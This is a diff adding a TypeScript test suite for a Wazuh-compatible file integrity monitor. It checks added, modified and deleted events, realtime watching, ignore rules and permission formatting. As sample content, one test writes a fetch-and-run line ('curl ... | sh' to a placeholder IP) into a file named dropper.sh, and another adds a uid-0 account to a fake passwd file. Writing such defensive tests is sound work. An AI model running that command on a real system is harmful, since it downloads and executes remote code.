@@ -1,0 +1,214 @@
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { appendFileSync, chmodSync, mkdirSync, mkdtempSync, renameSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { createHash } from "node:crypto";
+import { join } from "node:path";
+import { silentLogger, systemClock } from "../../core/mod.ts";
+import type { CollectedEvent } from "../logcollector/mod.ts";
+import { eventually } from "../../../test/harness/log_source_conformance.ts";
+import { createFim, type SyscheckSpec } from "./fim.ts";
+import type { FimEvent } from "./fim_event.ts";
+import { permString } from "./file_attributes.ts";
+
+const ALL = { md5: true, sha1: true, sha256: true, size: true, owner: true, group: true, perm: true, mtime: true, inode: true };
+
+function setup(over: Partial<SyscheckSpec> = {}, dirOver: Partial<SyscheckSpec["directories"][number]> = {}) {
+  const home = mkdtempSync(join(tmpdir(), "riposte-fim-"));
+  const watched = join(home, "watched");
+  mkdirSync(watched);
+  const spec: SyscheckSpec = {
+    frequencySeconds: 3600,
+    scanOnStart: true,
+    alertNewFiles: true,
+    directories: [{ path: watched, realtime: false, checks: ALL, recursionLevel: 256, ...dirOver }],
+    ignore: [],
+    ...over,
+  };
+  const events: FimEvent[] = [];
+  const sent: CollectedEvent[] = [];
+  let refuse = false;
+  const make = () =>
+    createFim(spec, {
+      clock: systemClock,
+      logger: silentLogger,
+      home,
+      sink: async (e) => {
+        if (refuse) throw new Error("spool full");
+        sent.push(e);
+      },
+      onEvent: (e) => events.push(e),
+    });
+  const run = async (fim = make()) => {
+    const ac = new AbortController();
+    const done = fim.start(ac.signal);
+    await eventually(() => fim.stats().scans >= 1, "the baseline scan");
+    return { fim, stop: async () => (ac.abort(), await done) };
+  };
+  return { home, watched, spec, events, sent, run, refuse: (v: boolean) => void (refuse = v), cleanup: () => rmSync(home, { recursive: true, force: true }) };
+}
+
+const brief = (events: FimEvent[]) => events.map((e) => `${e.type} ${e.path.replace(/.*\/watched/, "")}`);
+
+test("createFim() builds the baseline silently, then a scan reports added, modified and deleted", async () => {
+  const t = setup();
+  writeFileSync(join(t.watched, "existing"), "one");
+  mkdirSync(join(t.watched, "sub"));
+  writeFileSync(join(t.watched, "sub", "deep"), "deep");
+  const { fim, stop } = await t.run();
+  try {
+    assert.equal(t.events.length, 0, "no alert storm at first scan");
+    writeFileSync(join(t.watched, "new file"), "hello");
+    appendFileSync(join(t.watched, "existing"), " two");
+    rmSync(join(t.watched, "sub", "deep"));
+    await fim.scanNow();
+    assert.deepEqual(brief(t.events), ["modified /existing", "added /new file", "deleted /sub/deep"]);
+    const modified = t.events[0];
+    assert.deepEqual(modified?.changedAttributes?.filter((a) => a !== "mtime"), ["size", "md5", "sha1", "sha256"]);
+    assert.equal(modified?.oldAttributes?.size, 3);
+    assert.equal(modified?.attributes.size, 7);
+    assert.equal(modified?.attributes.hash_md5, createHash("md5").update("one two").digest("hex"));
+    assert.equal(modified?.oldAttributes?.hash_sha256, createHash("sha256").update("one").digest("hex"));
+    await fim.scanNow();
+    assert.equal(t.events.length, 3, "an unchanged tree gives no event");
+  } finally {
+    await stop();
+    t.cleanup();
+  }
+});
+
+test("FIM events leave as queue 8 with Wazuh's syscheck JSON body (rules 554, 550, 553)", async () => {
+  const t = setup();
+  const { fim, stop } = await t.run();
+  try {
+    const path = join(t.watched, "passwd");
+    writeFileSync(path, "root:x:0:0\n");
+    chmodSync(path, 0o640);
+    await fim.scanNow();
+    writeFileSync(path, "root:x:0:0\nmallory:x:0:0\n");
+    await fim.scanNow();
+    rmSync(path);
+    await fim.scanNow();
+    assert.deepEqual(t.sent.map((e) => [e.location, e.queue]), [["syscheck", "8"], ["syscheck", "8"], ["syscheck", "8"]]);
+    const bodies = t.sent.map((e) => JSON.parse(e.log) as { type: string; data: Record<string, unknown> & { attributes: Record<string, unknown> } });
+    assert.deepEqual(bodies.map((b) => [b.type, b.data["type"], b.data["path"], b.data["mode"], b.data["version"]]), [
+      ["event", "added", path, "scheduled", 2],
+      ["event", "modified", path, "scheduled", 2],
+      ["event", "deleted", path, "scheduled", 2],
+    ]);
+    const added = bodies[0]?.data.attributes ?? {};
+    assert.equal(added["type"], "file");
+    assert.equal(added["perm"], "rw-r-----");
+    assert.equal(added["size"], 11);
+    for (const algo of ["md5", "sha1", "sha256"]) assert.equal(added[`hash_${algo}`], createHash(algo).update("root:x:0:0\n").digest("hex"));
+    assert.equal(typeof added["uid"], "string");
+    assert.equal(typeof added["inode"], "number");
+    assert.ok(Array.isArray(bodies[1]?.data["changed_attributes"]));
+    assert.equal((bodies[1]?.data["old_attributes"] as Record<string, unknown>)["size"], 11);
+  } finally {
+    await stop();
+    t.cleanup();
+  }
+});
+
+test("realtime: create, modify and delete under a watched directory each give their event within one second", async () => {
+  const t = setup({}, { realtime: true });
+  const { fim, stop } = await t.run();
+  try {
+    assert.equal(fim.stats().watching, 1);
+    const path = join(t.watched, "dropper.sh");
+    const timings: number[] = [];
+    for (const [step, act] of [
+      ["added", () => writeFileSync(path, "#!/bin/sh\n")],
+      ["modified", () => appendFileSync(path, "curl http://203.0.113.9/x | sh\n")],
+      ["deleted", () => rmSync(path)],
+    ] as const) {
+      const t0 = Date.now();
+      const n = t.events.length;
+      act();
+      await eventually(() => t.events.length > n, `${step} event`, 1000);
+      timings.push(Date.now() - t0);
+      assert.equal(t.events.at(-1)?.type, step);
+      assert.equal(t.events.at(-1)?.mode, "realtime");
+      assert.equal(t.events.at(-1)?.path, path);
+    }
+    process.stdout.write(`# FIM realtime latency (added, modified, deleted): ${timings.join(", ")} ms\n`);
+    mkdirSync(join(t.watched, "newdir"));
+    writeFileSync(join(t.watched, "newdir", "inner"), "x");
+    await eventually(() => t.events.some((e) => e.path.endsWith("/newdir/inner") && e.type === "added"), "file in a new subdirectory", 1000);
+    renameSync(join(t.watched, "newdir"), join(t.watched, "moved"));
+    await eventually(() => t.events.some((e) => e.path.endsWith("/newdir/inner") && e.type === "deleted"), "deletion by directory move", 1000);
+    await eventually(() => t.events.some((e) => e.path.endsWith("/moved/inner") && e.type === "added"), "addition by directory move", 1000);
+  } finally {
+    await stop();
+    t.cleanup();
+  }
+});
+
+test("ignore (plain prefix and sregex), restrict and recursion_level limit what FIM reports", async () => {
+  const t = setup();
+  const spec: SyscheckSpec = {
+    ...t.spec,
+    ignore: [
+      { kind: "path", value: join(t.watched, "mtab") },
+      { kind: "sregex", value: ".log$|^/nonexistent" },
+    ],
+    directories: [{ path: t.watched, realtime: false, checks: ALL, recursionLevel: 0, restrict: "!.tmp$" }],
+  };
+  const events: FimEvent[] = [];
+  const fim = createFim(spec, { clock: systemClock, logger: silentLogger, home: t.home, sink: async () => {}, onEvent: (e) => events.push(e) });
+  const ac = new AbortController();
+  const done = fim.start(ac.signal);
+  try {
+    await eventually(() => fim.stats().scans >= 1, "baseline");
+    mkdirSync(join(t.watched, "sub"));
+    for (const name of ["mtab", "mtab.lock", "app.LOG", "cache.tmp", "kept", "sub/too-deep"]) writeFileSync(join(t.watched, name), name);
+    await fim.scanNow();
+    assert.deepEqual(brief(events), ["added /kept"]);
+  } finally {
+    ac.abort();
+    await done;
+    t.cleanup();
+  }
+});
+
+test("the baseline survives a restart: changes made while stopped are reported at start", async () => {
+  const t = setup();
+  writeFileSync(join(t.watched, "a"), "1");
+  let r = await t.run();
+  await r.stop();
+  writeFileSync(join(t.watched, "a"), "22");
+  writeFileSync(join(t.watched, "b"), "new");
+  r = await t.run();
+  try {
+    assert.deepEqual(brief(t.events), ["modified /a", "added /b"]);
+  } finally {
+    await r.stop();
+    t.cleanup();
+  }
+});
+
+test("an event the sink refuses is not recorded, so the next scan reports it again", async () => {
+  const t = setup();
+  const { fim, stop } = await t.run();
+  try {
+    writeFileSync(join(t.watched, "x"), "1");
+    t.refuse(true);
+    await assert.rejects(fim.scanNow(), /spool full/);
+    t.refuse(false);
+    await fim.scanNow();
+    assert.deepEqual(brief(t.events), ["added /x"]);
+  } finally {
+    await stop();
+    t.cleanup();
+  }
+});
+
+test("permString() renders modes like Wazuh, special bits included", () => {
+  assert.equal(permString(0o100644), "rw-r--r--");
+  assert.equal(permString(0o4755), "rwsr-xr-x");
+  assert.equal(permString(0o2750), "rwxr-s---");
+  assert.equal(permString(0o1777), "rwxrwxrwt");
+  assert.equal(permString(0o4644), "rwSr--r--");
+  assert.equal(permString(0o1666), "rw-rw-rwT");
+});
